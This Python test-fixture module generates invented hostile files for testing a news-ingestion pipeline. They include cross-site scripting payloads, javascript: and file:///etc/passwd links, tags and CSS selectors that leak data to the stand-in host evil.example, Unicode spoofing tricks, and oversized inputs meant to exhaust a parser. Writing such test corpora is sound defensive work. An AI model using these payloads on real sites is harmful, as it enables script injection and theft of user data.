"""Reports made to break a page: each is a name and the bytes of a file. Invented, every one."""

from __future__ import annotations

import json
from html import escape
from typing import Final

ALARM: Final = "window.__ran=1;alert(1)"
"""What every hostile script would do, so that one look tells whether any ran."""
FOREIGN: Final = "https://evil.example"

_SCRIPTS: Final = (
    f"<script>{ALARM}</script>",
    f"<img src=x onerror={ALARM}>",
    f"<svg onload={ALARM}>",
    f"<svg><script>{ALARM}</script></svg>",
    f"<iframe srcdoc='<script>parent.{ALARM}</script>'></iframe>",
    f"<body onload={ALARM}>",
    f"<details open ontoggle={ALARM}>x</details>",
    f"<a href='javascript:{ALARM}'>click</a>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={ALARM}>",
    f'"><script>{ALARM}</script>',
    f"'><script>{ALARM}</script>",
    f"</title><script>{ALARM}</script>",
    f"</textarea><script>{ALARM}</script>",
    f"<!--><script>{ALARM}</script>-->",
    f"<scr<script>ipt>{ALARM}</scr</script>ipt>",
    f"{{{{ {ALARM} }}}} ${{{ALARM}}} {{% {ALARM} %}}",
    f"<base href='{FOREIGN}/'>",
    f"<meta http-equiv=refresh content='0;url={FOREIGN}'>",
    f"<link rel=stylesheet href='{FOREIGN}/x.css'>",
    f"<style>@import '{FOREIGN}/x.css'; input[value^=a]{{background:url({FOREIGN}/a)}}</style>",
    f"<img src='{FOREIGN}/pixel.gif'>",
    f"<form action='{FOREIGN}'><input name=x><button>go</button></form>",
    f"<object data='{FOREIGN}/x.swf'></object>",
    f"<video src='{FOREIGN}/x.mp4' autoplay></video>",
    f"<link rel=preload as=image href='{FOREIGN}/p.png'>",
)
_FIELDS: Final = ("title", "byline", "outlet", "body")
_LINKS: Final = (
    f"javascript:{ALARM}",
    f"JaVaScRiPt:{ALARM}",
    f"\x01javascript:{ALARM}",
    f"data:text/html,<script>{ALARM}</script>",
    f"vbscript:{ALARM}",
    "file:///etc/passwd",
    f"//evil.example/{escape('<x>')}",
    "http://[::1",
)
_UNICODE: Final = {
    "bidi-override": "The mayor said \u202eton si mad eht\u202c the dam is safe.",
    "bidi-isolate": "“Safe \u2067dam the\u2069 and sound,” said \u2066Ines Dahl\u2069.",
    "unclosed-embedding": "\u202b\u202b\u202bThe mayor said the dam was safe.",
    "homoglyph": "Reutеrs said the dam was safe, and Ines Dаhl denied it.",
    "zero-width": "The may\u200bor sa\u200did the d\u2060am was s\ufeffafe.",
    "controls": "The mayor\x07 said\x1b[31m the dam\x7f was safe.",
    "null": "The mayor said\x00 the dam was safe.",
    "combining": "The ma" + "\u0301" * 400 + "yor said the dam was safe.",
    "emoji-chain": "“" + "👩‍👩‍👧‍👦" * 500 + " is safe,” said Ines Dahl.",
    "line-separators": "The mayor said\u2028the dam\u2029was safe.",
    "private-use": "The mayor said \ue000\uf8ff the dam was safe.",
    "right-to-left": "قال العمدة إن السد آمن. <b>السد</b>",
    "astral": "𝕋𝕙𝕖 𝕞𝕒𝕪𝕠𝕣 said the dam was safe. " * 20,
    "noncharacters": "The mayor said \ufffe\uffff the dam was safe.",
}
_BROKEN: Final = {
    "unclosed.html": b"<html><body><p>The dam is safe, <b>the mayor said<p><div><table><tr><td>",
    "nested.html": b"<html><body>" + b"<div>" * 3000 + b"The mayor said the dam was safe." + b"</div>" * 10,
    "only-tags.html": b"<html><body>" + b"<p></p>" * 2000 + b"<p>The mayor said the dam was safe.</p>",
    "two-bodies.html": b"<html><body><p>The mayor said A.</p></body><body><p>The mayor said B.</p>",
    "wrong-charset.html": "<meta charset=ascii><p>Бургомистр сказал: «Плотина цела».</p>".encode("cp1251"),
    "attribute.html": b"<html><body><p title='" + b"x" * 20_000 + b"'>The mayor said the dam was safe.</p>",
    "long-url.html": b"<html><body><p>See https://example.org/" + b"a" * 4_000 + b" the mayor said.</p>",
    "deep-quotes.txt": ("“" * 300 + "the dam is safe" + "”" * 300 + " the mayor said.\n").encode(),
    "brackets.txt": b"(" * 2_000 + b" the mayor said the dam was safe\n",
    "figures.txt": ("The mayor said " + "9" * 400 + " people and -1e400 and 1/0 were safe.\n").encode(),
    "newlines.txt": b"The mayor said the dam was safe.\n" + b"\n" * 10_000,
    "captions.srt": f"1\n00:00:00,000 --> 00:00:01,000\n<script>{ALARM}</script> she said.\n".encode(),
}


ONE_WORD: Final = "safe" * 1_250_000
"""Five megabytes without a space; laid before the pages as it is, since no reader finds anything in it."""


def corpus() -> dict[str, bytes]:
    """Return the files by name: some eighty."""
    files: dict[str, bytes] = {}
    for number, script in enumerate(_SCRIPTS):
        files[f"text-{number}.txt"] = (
            f"{script}\nBy {script}\n\nThe dam is safe, {script} said. “{script},” the mayor said.\n"
        ).encode()
        if number % 4 == 0:
            files[f"page-{number}.html"] = _page(script).encode()
    for number, link in enumerate(_LINKS):
        files[f"link-{number}.html"] = _page("The dam", link).encode()
    for name, text in _UNICODE.items():
        files[f"unicode-{name}.txt"] = f"Dam at Karrow {name}\n\n{text}\nThe mayor said so.\n".encode()
    files |= _BROKEN
    files["telegram.json"] = _channel().encode()
    return files


def _page(words: str, link: str = f"{FOREIGN}/story") -> str:
    told = escape(words)
    fields = json.dumps({"@type": "NewsArticle", "headline": words, "author": {"name": words}, "url": link})
    data = fields.replace("</", r"<\/")
    return (
        f'<html><head><title>{told}</title><meta property="og:site_name" content="{told}">'
        f'<link rel="canonical" href="{escape(link)}"><meta name="author" content="{told}">'
        f'<script type="application/ld+json">{data}</script></head><body><article>'
        f"<h1>{told}</h1><p>The dam is safe, {told} said on Monday. {words}</p>"
        f'<p>“Nobody has to leave,” the mayor said. <a href="{escape(link)}">More</a></p></article>'
    )


def _channel() -> str:
    script = f"<img src=x onerror={ALARM}>"
    messages = [
        {
            "id": number,
            "type": "message",
            "date": "2031-05-04T09:10:00",
            "from": script,
            "forwarded_from": script,
            "text": ["The mayor said ", {"type": "text_link", "text": script, "href": f"javascript:{ALARM}"}],
        }
        for number in range(3)
    ]
    return json.dumps({"name": script, "type": "public_channel", "id": 1, "messages": messages})
